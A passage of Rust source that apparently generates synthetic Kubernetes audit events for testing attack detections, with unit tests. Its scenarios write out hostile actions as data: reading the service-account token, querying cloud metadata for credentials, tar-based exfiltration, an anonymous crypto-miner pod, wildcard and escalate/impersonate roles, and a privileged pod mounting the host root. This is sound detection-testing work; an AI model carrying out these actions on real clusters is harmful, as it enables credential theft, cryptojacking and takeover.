            (&["D14", "D12"], "Exec that asks the cloud instance-metadata service for node credentials.", vec![exec(&["sh", "-c", cmd])])
        }
        "D15-exec-sa-token-read" => (&["D15", "D12"], "Exec that reads the pod's service-account token.", vec![exec(&["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"])]),
        "D16-kubectl-cp-exfil" => (&["D16", "D12"], "kubectl cp out of a pod (tar cf - streamed back).", vec![exec(&["tar", "cf", "-", "/app/config"])]),
        "D55-cluster-wide-secret-list" => (&["D55"], "A human lists secrets across all namespaces.", vec![Ev {
            level: "Metadata",
            uri: "/api/v1/secrets?limit=500".into(),
            verb: "list",
            resource: Some("secrets"),
            ..human_base()
        }]),
        "D56-secret-get-burst" => {
            let evs = (0..25)
                .map(|i| {
                    let ns = ["payments", "shop", "search", "monitoring", "default"][i % 5];
                    let name = format!("{}-credentials-{i}", ["db", "api", "tls", "registry", "smtp"][i % 5]);
                    Ev {
                        level: "Metadata",
                        uri: format!("/api/v1/namespaces/{ns}/secrets/{name}"),
                        verb: "get",
                        resource: Some("secrets"),
                        namespace: Some(ns.into()),
                        name: Some(name),
                        ..human_base()
                    }
                })
                .collect();
            (&["D56"], "One identity reads 25 different secrets across namespaces within two minutes.", evs)
        }
        "D01-anonymous-authorized" => (&["D01"], "An anonymous request to a non-health endpoint is allowed (misconfigured RBAC).", vec![Ev {
            level: "Metadata",
            uri: "/api/v1/namespaces/kube-system/secrets".into(),
            verb: "list",
            user: "system:anonymous".into(),
            groups: &["system:unauthenticated"],
            ips: vec![ATTACKER_IP.into()],
            ua: "python-requests/2.31.0".into(),
            resource: Some("secrets"),
            namespace: Some("kube-system".into()),
            reason: "RBAC: allowed by ClusterRoleBinding \"anonymous-view\" of ClusterRole \"view\" to User \"system:anonymous\"".into(),
            ..human_base()
        }]),
        "D02-anonymous-pod-create" => {
            let body = "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"kworker\",\"namespace\":\"default\"},\"spec\":{\"containers\":[{\"name\":\"kworker\",\"image\":\"docker.io/xmrig/xmrig:6.21.0\",\"args\":[\"-o\",\"pool.minexmr.example:4444\"]}]}}";
            (&["D02", "D01"], "An anonymous client creates a crypto-miner pod.", vec![Ev {
                uri: "/api/v1/namespaces/default/pods".into(),
                verb: "create",
                user: "system:anonymous".into(),
                groups: &["system:unauthenticated"],
                ips: vec![ATTACKER_IP.into()],
                ua: "python-requests/2.31.0".into(),
                resource: Some("pods"),
                namespace: Some("default".into()),
                name: Some("kworker".into()),
                code: 201,
                request: Some(body.into()),
                response: Some(body.into()),
                reason: "RBAC: allowed by ClusterRoleBinding \"anonymous-edit\"".into(),
                ..human_base()
            }])
        }
        "D43-wildcard-clusterrole" => {
            let body = "{\"kind\":\"ClusterRole\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"metadata\":{\"name\":\"ops-superuser\"},\"rules\":[{\"apiGroups\":[\"*\"],\"resources\":[\"*\"],\"verbs\":[\"*\"]}]}";
            (&["D43"], "A ClusterRole granting every verb on every resource.", vec![Ev {
                uri: "/apis/rbac.authorization.k8s.io/v1/clusterroles?fieldManager=kubectl-create".into(),
                verb: "create",
                resource: Some("clusterroles"),
                name: Some("ops-superuser".into()),
                api_group: "rbac.authorization.k8s.io",
                code: 201,
                request: Some(body.into()),
                response: Some(body.into()),
                ..human_base()
            }])
        }
        "D46-escalate-bind-impersonate-role" => {
            let body = "{\"kind\":\"Role\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"metadata\":{\"name\":\"rbac-helper\",\"namespace\":\"payments\"},\"rules\":[{\"apiGroups\":[\"rbac.authorization.k8s.io\"],\"resources\":[\"roles\",\"rolebindings\"],\"verbs\":[\"escalate\",\"bind\"]},{\"apiGroups\":[\"\"],\"resources\":[\"users\",\"groups\",\"serviceaccounts\"],\"verbs\":[\"impersonate\"]}]}";
            (&["D46"], "A Role granting escalate, bind and impersonate.", vec![Ev {
                uri: "/apis/rbac.authorization.k8s.io/v1/namespaces/payments/roles".into(),
                verb: "create",
                resource: Some("roles"),
                namespace: Some("payments".into()),
                name: Some("rbac-helper".into()),
                api_group: "rbac.authorization.k8s.io",
                code: 201,
                request: Some(body.into()),
                response: Some(body.into()),
                ..human_base()
            }])
        }
        "D28-client-cert-csr" => {
            let csr = "{\"kind\":\"CertificateSigningRequest\",\"apiVersion\":\"certificates.k8s.io/v1\",\"metadata\":{\"name\":\"eve-admin\"},\"spec\":{\"request\":\"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K\",\"signerName\":\"kubernetes.io/kube-apiserver-client\",\"expirationSeconds\":31536000,\"usages\":[\"client auth\"]}}";
            let approval = "{\"kind\":\"CertificateSigningRequest\",\"apiVersion\":\"certificates.k8s.io/v1\",\"metadata\":{\"name\":\"eve-admin\"},\"status\":{\"conditions\":[{\"type\":\"Approved\",\"status\":\"True\",\"reason\":\"KubectlApprove\"}]}}";
            (&["D28"], "A human requests and approves a long-lived client certificate.", vec![
                Ev { uri: "/apis/certificates.k8s.io/v1/certificatesigningrequests".into(), verb: "create", resource: Some("certificatesigningrequests"), name: Some("eve-admin".into()), api_group: "certificates.k8s.io", code: 201, request: Some(csr.into()), ..human_base() },
                Ev { uri: "/apis/certificates.k8s.io/v1/certificatesigningrequests/eve-admin/approval".into(), verb: "update", resource: Some("certificatesigningrequests"), subresource: Some("approval"), name: Some("eve-admin".into()), api_group: "certificates.k8s.io", request: Some(approval.into()), ..human_base() },
            ])
        }
        "D25-wildcard-admission-webhook" => {
            let body = "{\"kind\":\"MutatingWebhookConfiguration\",\"apiVersion\":\"admissionregistration.k8s.io/v1\",\"metadata\":{\"name\":\"pod-policy-helper\"},\"webhooks\":[{\"name\":\"policy.helper.example.net\",\"clientConfig\":{\"url\":\"https://hooks.helper.example.net/mutate\"},\"rules\":[{\"operations\":[\"*\"],\"apiGroups\":[\"*\"],\"apiVersions\":[\"*\"],\"resources\":[\"*\"]}],\"failurePolicy\":\"Ignore\",\"sideEffects\":\"None\",\"admissionReviewVersions\":[\"v1\"]}]}";
            (&["D25"], "A mutating webhook intercepting every request, sent to an outside URL.", vec![Ev {
                uri: "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations".into(),
                verb: "create",
                resource: Some("mutatingwebhookconfigurations"),
                name: Some("pod-policy-helper".into()),
                api_group: "admissionregistration.k8s.io",
                code: 201,
                request: Some(body.into()),
                response: Some(body.into()),
                ..human_base()
            }])
        }
        "D11-impersonate-privileged" => (&["D11"], "A human impersonates system:admin in group system:masters to read secrets.", vec![Ev {
            level: "Metadata",
            uri: "/api/v1/namespaces/kube-system/secrets".into(),
            verb: "list",
            impersonate: Some(("system:admin", &["system:masters", "system:authenticated"])),
            resource: Some("secrets"),
            namespace: Some("kube-system".into()),
            ..human_base()
        }]),
        "D33-privileged-pod" | "D37-sensitive-hostpath" => {
            let body = "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"node-debugger\",\"namespace\":\"default\"},\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":\"debug\",\"image\":\"docker.io/library/ubuntu:22.04\",\"command\":[\"sleep\",\"infinity\"],\"securityContext\":{\"privileged\":true},\"volumeMounts\":[{\"name\":\"host\",\"mountPath\":\"/host\"},{\"name\":\"runtime\",\"mountPath\":\"/run/containerd/containerd.sock\"}]}],\"volumes\":[{\"name\":\"host\",\"hostPath\":{\"path\":\"/\"}},{\"name\":\"runtime\",\"hostPath\":{\"path\":\"/run/containerd/containerd.sock\"}}]}}";
            let (det, desc): (&'static [&'static str], &'static str) = if name == "D33-privileged-pod" {
                (&["D33"], "A human creates a privileged pod in default.")
            } else {
                (&["D37"], "A pod mounting the node's root filesystem and the containerd socket.")
            };
            (det, desc, vec![Ev {
                uri: "/api/v1/namespaces/default/pods?fieldManager=kubectl-run".into(),
                verb: "create",
                resource: Some("pods"),
                namespace: Some("default".into()),
                name: Some("node-debugger".into()),
                code: 201,
                request: Some(body.into()),
                response: Some(body.into()),
                ..human_base()
            }])
        }
        _ => return None,
    };
    let scenario_name = SCENARIOS.iter().find(|s| **s == name).copied()?;
    let mut events = Vec::with_capacity(evs.len());
    let mut t = t_micros;
    for ev in evs {
        let audit_id = uuid(&mut rng);
        let mut out = String::with_capacity(1024);
        write_event(&mut out, &ev, &audit_id, t);
        let stage = if ev.stage == "ResponseStarted" { "ResponseStarted" } else { "ResponseComplete" };
        events.push((EventMeta { audit_id, stage, event_time_micros: t }, out));
        t += rng.random_range(500_000..4_000_000);
    }
    Some(ScenarioEvents { scenario: scenario_name, detections, description, events })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::parse_audit_event;

    fn cluster(cloud: Cloud) -> ClusterSpec {
        ClusterSpec { name: "c".into(), cloud, account: "123456789012".into(), region: "us-east-1".into(), resource_group: "rg".into() }
    }

    #[test]
    fn benign_events_parse_and_are_deterministic() {
        for cloud in [Cloud::Eks, Cloud::Aks] {
            let mut a = BenignTraffic::new(&cluster(cloud), 1);
            let mut b = BenignTraffic::new(&cluster(cloud), 1);
            let (mut sa, mut sb) = (String::new(), String::new());
            let mut verbs = std::collections::BTreeSet::new();
            for i in 0..5000 {
                let t = 1_700_000_000_000_000 + i * 1000;
                let ma = a.next_event(t, &mut sa);
                b.next_event(t, &mut sb);
                assert_eq!(sa, sb);
                let e = parse_audit_event(&sa).unwrap_or_else(|err| panic!("{err}: {sa}"));
                assert_eq!(e.event_time(), Some(t));
                assert_eq!(e.audit_id.as_deref(), Some(ma.audit_id.as_str()));
                verbs.insert(e.verb.unwrap().into_owned());
                let v: serde_json::Value = serde_json::from_str(&sa).unwrap();
                let anonymous = v["user"]["username"] == "system:anonymous";
                assert!(!anonymous || v["requestURI"].as_str().unwrap().ends_with("z"), "anonymous only probes health: {sa}");
                assert!(!sa.contains("cluster-admin\"}") && !sa.contains("/dev/tcp"), "{sa}");
            }
            assert!(verbs.len() >= 6, "{verbs:?}");
        }
    }

    #[test]
    fn every_scenario_builds_valid_events() {
        for cloud in [Cloud::Eks, Cloud::Aks] {
            for name in SCENARIOS {
                let s = scenario(name, &cluster(cloud), 1_700_000_000_000_000, 3).unwrap();
                assert!(!s.events.is_empty() && !s.detections.is_empty());
                for (m, json) in &s.events {
                    let e = parse_audit_event(json).unwrap_or_else(|err| panic!("{name}: {err}: {json}"));
                    assert_eq!(e.event_time(), Some(m.event_time_micros));
                }
            }
        }
        assert!(scenario("nope", &cluster(Cloud::Eks), 0, 0).is_none());
    }
}
